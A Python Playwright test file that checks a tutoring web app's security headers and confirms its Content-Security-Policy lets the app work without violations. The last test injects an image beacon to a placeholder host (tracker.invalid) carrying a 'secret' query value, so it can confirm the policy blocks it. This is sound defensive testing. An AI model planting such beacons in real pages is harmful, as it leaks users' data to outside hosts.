"""The Content-Security-Policy the app sends works with the app's own pages (no violation
while a learner opens a module, chats and reloads) and stops what it is there to stop: a
picture from a host the operator did not list. Every browser test runs under the policy;
this one watches for violations."""

from __future__ import annotations

import urllib.request

from playwright.sync_api import Page

from tests.browser.conftest import RunningApp
from tests.browser.helpers import MODULE, wait_until

WATCH = """() => {
  window.__violations = [];
  document.addEventListener('securitypolicyviolation',
    (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
}"""
IDLE = "() => !document.getElementById('typing') && !document.getElementById('streaming-reply')"


def test_pages_carry_security_headers(app: RunningApp) -> None:
    for path in ("/", f"/learn?module={MODULE}", "/tutor.css"):
        with urllib.request.urlopen(app.url + path, timeout=10) as response:
            policy = response.headers["content-security-policy"]
            assert "script-src 'self' 'unsafe-inline'" in policy, path
            assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
            assert "img-src 'self' data: blob:" in policy
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.headers["referrer-policy"] == "same-origin"


def test_the_policy_lets_the_app_work_and_blocks_other_hosts(app: RunningApp, page: Page) -> None:
    page.add_init_script(f"({WATCH})()")
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(app.url + "/")
    page.locator(f"#open-{MODULE}").click()
    page.locator(".msg-tutor").first.wait_for()
    wait_until(page, IDLE)
    page.locator("#message").fill("What is the fight or flight response?")
    page.locator("#message").press("Enter")
    wait_until(page, "() => document.querySelectorAll('.msg-tutor').length > 1")
    wait_until(page, IDLE)
    page.reload()
    page.locator(".msg-learner").first.wait_for()
    assert page.evaluate("window.__violations") == []
    assert errors == []

    page.evaluate("""() => { const img = document.createElement('img');
        img.src = 'https://tracker.invalid/px.gif?d=secret'; document.body.appendChild(img); }""")
    wait_until(page, "() => window.__violations.length > 0")
    assert any("img-src" in v and "tracker.invalid" in v for v in page.evaluate("window.__violations"))
